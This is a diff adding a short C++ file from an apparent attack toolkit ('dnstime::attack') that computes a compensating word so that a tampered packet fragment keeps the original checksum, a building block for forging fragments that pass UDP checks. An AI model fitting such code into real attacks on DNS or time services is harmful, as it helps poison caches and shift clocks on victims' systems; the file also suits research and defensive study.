@@ -1,0 +1,36 @@
+#include "attack/checksum_fixer.h"
+
+#include "net/checksum.h"
+
+namespace dnstime::attack {
+
+u16 compensation_value(std::span<const u8> original,
+                       std::span<const u8> mutated_with_hole) {
+  u16 target = net::ones_complement_sum(original);
+  u16 current = net::ones_complement_sum(mutated_with_hole);
+  return net::ones_complement_sub(target, current);
+}
+
+void store_word(Bytes& buf, std::size_t offset, u16 value) {
+  buf[offset] = static_cast<u8>(value >> 8);
+  buf[offset + 1] = static_cast<u8>(value);
+}
+
+bool sums_equal(std::span<const u8> a, std::span<const u8> b) {
+  u16 sa = net::ones_complement_sum(a);
+  u16 sb = net::ones_complement_sum(b);
+  if (sa == sb) return true;
+  return (sa == 0 && sb == 0xFFFF) || (sa == 0xFFFF && sb == 0);
+}
+
+bool fix_fragment_sum(std::span<const u8> original, Bytes& mutated,
+                      std::size_t fix_offset) {
+  if (fix_offset % 2 != 0) return false;  // would straddle word pairing
+  if (fix_offset + 2 > mutated.size()) return false;
+  store_word(mutated, fix_offset, 0);
+  u16 fix = compensation_value(original, mutated);
+  store_word(mutated, fix_offset, fix);
+  return sums_equal(original, mutated);
+}
+
+}  // namespace dnstime::attack
